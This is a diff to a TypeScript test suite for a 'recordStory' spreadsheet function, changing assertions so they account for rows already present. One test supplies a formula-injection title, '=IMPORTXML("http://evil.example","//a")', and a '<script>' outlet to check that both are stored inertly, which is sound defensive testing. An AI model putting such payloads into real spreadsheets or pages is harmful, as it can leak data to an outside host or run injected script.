@@ -18,6 +18,7 @@ const POST = {
 describe('recordStory', () => {
   it('appends one story with its figures, in one write', () => {
     const demo = setUpDemo();
+    const before = rows(demo, storiesTab);
     const { saved, result } = saveOk<Story>(demo, 'recordStory', POST);
     const expected = {
       id: expect.stringMatching(/^s-[0-9a-f]{8}$/),
@@ -31,8 +32,8 @@ describe('recordStory', () => {
       shares: 38,
     };
     expect(saved.record).toEqual(expected);
-    expect(rows(demo, storiesTab)).toEqual([expected]);
-    expect(saved.message).toBe('Recorded the social media "Our bus map is live" in row 2 of Stories.');
+    expect(rows(demo, storiesTab)).toEqual([...before, expected]);
+    expect(saved.message).toBe(`Recorded the social media "Our bus map is live" in row ${before.length + 2} of Stories.`);
     expectOneWrite(result, storiesTab.columns.length);
   });
 
@@ -54,9 +55,10 @@ describe('recordStory', () => {
 
   it('refuses a story already recorded', () => {
     const demo = setUpDemo();
+    const row = rows(demo, storiesTab).length + 2;
     saveOk(demo, 'recordStory', POST);
     expect(refusedWith(demo, 'recordStory', { ...POST, title: 'Bus map (again)' })).toBe(
-      'Cannot record the story: "Our bus map is live" is already in the Stories tab (row 2). Nothing was written.',
+      `Cannot record the story: "Our bus map is live" is already in the Stories tab (row ${row}). Nothing was written.`,
     );
   });
 
@@ -64,7 +66,7 @@ describe('recordStory', () => {
     const demo = setUpDemo();
     const title = '=IMPORTXML("http://evil.example","//a")';
     saveOk(demo, 'recordStory', { ...POST, title, outlet: '<script>x</script>' });
-    expect(rows(demo, storiesTab)[0]).toMatchObject({ title, outlet: '<script>x</script>' });
+    expect(rows(demo, storiesTab).at(-1)).toMatchObject({ title, outlet: '<script>x</script>' });
     noFormulas(demo, 'Stories');
   });
 });
